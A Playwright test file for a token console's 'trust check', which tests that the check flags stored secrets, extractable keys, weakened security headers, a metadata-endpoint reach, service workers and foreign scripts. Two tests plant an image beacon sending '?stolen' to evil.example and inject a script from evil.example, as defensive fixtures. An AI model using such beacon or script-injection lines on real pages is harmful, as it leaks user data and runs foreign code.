import type { Page } from '@playwright/test';
import type { ServerSelf } from '../src/core/environment/relay.ts';
import { ConsolePage, expect, test } from './console-page.ts';
import { onPurpose } from './page-guard.ts';
import { SABOTAGE } from './sabotage.ts';
import { openCheck, promise, unmet, whole } from './trust-check.ts';

test('the evidence follows what happens while the check is open', async ({ console }) => {
  await console.open();
  await openCheck(console);
  await expect(promise(console, 'key')).toHaveAttribute('data-standing', 'unasked');
  await console.page.evaluate(() => sessionStorage.setItem('x', 'y'));
  await expect(promise(console, 'storage')).toHaveAttribute('data-standing', 'unmet');
  await expect(whole(console)).toContainText('Not as promised: Storage.');
  expect(await console.accessibilityViolations()).toEqual([]);
  await console.page.evaluate(() => sessionStorage.clear());
  await expect(whole(console)).toHaveAttribute('data-standing', 'met');
});

test('the trust check turns red for whatever is kept or written down, and green once it is gone', async ({
  console,
}) => {
  const { page } = console;
  await console.open();
  await console.load('Good token');
  await openCheck(console);
  for (const { what, about, plant, remove } of SABOTAGE) {
    await page.evaluate(plant);
    await expect(promise(console, about), what).toHaveAttribute('data-standing', 'unmet');
    await expect(whole(console), what).toHaveAttribute('data-standing', 'unmet');
    expect(await unmet(console), what).toEqual([about]);
    expect(await page.getByRole('dialog').innerText(), what).not.toContain('eyJ');
    await page.evaluate(remove);
    await expect(whole(console), what).toHaveAttribute('data-standing', 'met');
  }
});

test('the trust check turns red for a key that can be read out', async ({ console }) => {
  await console.page.addInitScript(() => {
    const { value } = Object.getOwnPropertyDescriptor(SubtleCrypto.prototype, 'importKey') ?? {};
    const importKey = value as (this: SubtleCrypto, ...rest: unknown[]) => Promise<CryptoKey>;
    SubtleCrypto.prototype.importKey = function (this: SubtleCrypto, ...given: unknown[]) {
      return importKey.apply(this, given.toSpliced(3, 1, true));
    } as SubtleCrypto['importKey'];
  });
  await console.open();
  await console.load('Good token');
  await openCheck(console);
  await expect(promise(console, 'key')).toContainText('A key is extractable: it can be read out.');
  expect(await unmet(console)).toEqual(['key']);
});

/** Serves the page with other headers than its server sends. */
const withHeaders = (page: Page, change: (headers: Record<string, string>) => void): Promise<unknown> =>
  page.route(/\/(\?.*)?$/, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    change(headers);
    await route.fulfill({ response, headers });
  });

test('the trust check turns red for a page under no policy', async ({ console }) => {
  await withHeaders(console.page, (headers) => delete headers['content-security-policy']);
  await console.open();
  await openCheck(console);
  await expect(promise(console, 'policy')).toContainText('This document is under no policy.');
  expect(await unmet(console)).toEqual(['policy']);
});

test('the trust check turns red for a page that was loaded without a policy, whatever the server sends now', async ({
  console,
}) => {
  await withHeaders(console.page, (headers) => delete headers['content-security-policy']);
  await console.open();
  await console.page.unrouteAll();
  await openCheck(console);
  expect(await unmet(console)).toEqual(['policy']);
});

test('the trust check turns red for a weaker policy and for other weaker headers', async ({ console }) => {
  await withHeaders(console.page, (headers) => {
    headers['content-security-policy'] = headers['content-security-policy']?.replace("'none'", '*') ?? '';
    delete headers['x-frame-options'];
  });
  await console.open();
  await openCheck(console);
  await expect(promise(console, 'policy')).toContainText("default-src is *, and should be 'none'.");
  expect(await unmet(console)).toEqual(['policy', 'headers']);
});

test('the trust check turns red for a server that listens everywhere, or is of another version', async ({
  console,
  baseURL,
}) => {
  const self: ServerSelf = {
    listening: { address: '0.0.0.0', port: Number(new URL(baseURL ?? '').port) },
    mode: 'preview',
    startedAt: 0,
    reached: [['http://169.254.169.254', 1]],
    versions: { tokenscope: '0.0.1', vite: '8.3.8', node: '20.20.2' },
  };
  await console.page.route('**/self', (route) => route.fulfill({ json: self }));
  await console.open();
  await openCheck(console);
  await expect(promise(console, 'relay')).toContainText('It listens on 0.0.0.0: other machines can reach it.');
  await expect(promise(console, 'relay')).toContainText('It has reached http://169.254.169.254');
  expect(await unmet(console)).toEqual(['relay', 'versions']);
});

test('a new key is not told to be safe while its text is still here', async ({ console }) => {
  await console.open();
  await console.button('Generate key pair').click();
  await expect(console.button('Download private key')).toBeVisible();
  await openCheck(console);
  await expect(promise(console, 'key')).toContainText('until you download it or remove the key');
  await console.page.keyboard.press('Escape');
  const download = console.page.waitForEvent('download');
  await console.button('Download private key').click();
  await download;
  await openCheck(console);
  await expect(whole(console)).toHaveAttribute('data-standing', 'met');
});

test('what is public is no secret, however personal', async ({ console }) => {
  await console.open();
  await console.button('More expectations').click();
  await console.field('Expected subject').fill('alice@example.com');
  await expect(console.page).toHaveURL(/alice/);
  await openCheck(console);
  await expect(whole(console)).toHaveAttribute('data-standing', 'met');
});

test('without its server the trust check is not green', async ({ console, context }) => {
  await console.open();
  await console.page.waitForLoadState('networkidle');
  await context.setOffline(true);
  await openCheck(console);
  await expect(whole(console)).toHaveAttribute('data-standing', 'missing');
  expect(console.complaints.every((complaint) => complaint.includes('ERR_INTERNET_DISCONNECTED'))).toBe(true);
  console.complaints.length = 0;
  await context.setOffline(false);
  await console.button('Check again').click();
  await expect(whole(console)).toHaveAttribute('data-standing', 'met');
});

test(
  'what the page is kept from, and where it should not have been, is seen at once',
  onPurpose(/evil\.example/),
  async ({ page, baseURL }) => {
    // a window of its own: a violation is what this is about
    const console = new ConsolePage(page);
    await console.open();
    await page.evaluate(() => {
      const image = new Image();
      image.src = 'https://evil.example/pixel.png?stolen';
    });
    await expect(page.getByText('Trust check: something is not as promised.')).toBeAttached();
    await openCheck(console);
    await expect(promise(console, 'destinations')).toContainText(
      'Kept from by the policy: img-src https://evil.example.',
    );
    expect(await unmet(console)).toEqual(['destinations']);
    const foreign = console.requests.filter((request) => new URL(request.url()).origin !== baseURL);
    expect(foreign.map((request) => request.failure()?.errorText)).toEqual(['csp']);
  },
);

test(
  'the trust check turns red for a service worker, and for a script of somebody else',
  onPurpose(/^asked https:\/\/evil\.example$/),
  async ({ console, page }) => {
    await withHeaders(page, (headers) => delete headers['content-security-policy']);
    await page.route('https://evil.example/**', (route) => route.fulfill({ body: '', contentType: 'text/javascript' }));
    await console.open();
    // a part of the page that does nothing by itself
    const findPart = () =>
      page.evaluate(() => performance.getEntriesByType('resource').find(({ name }) => name.includes('/_md-'))?.name);
    await expect.poll(findPart).toBeDefined();
    const part = (await findPart()) ?? '';
    await page.evaluate(async (worker) => {
      await navigator.serviceWorker.register(worker, { type: 'module', scope: '/assets/' });
      await new Promise((resolve) => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/x.js';
        script.addEventListener('load', resolve);
        document.head.append(script);
      });
    }, part);
    await openCheck(console);
    await expect(promise(console, 'workers')).toContainText('/assets/');
    expect(await unmet(console)).toEqual(['policy', 'destinations', 'scripts', 'workers']);
  },
);
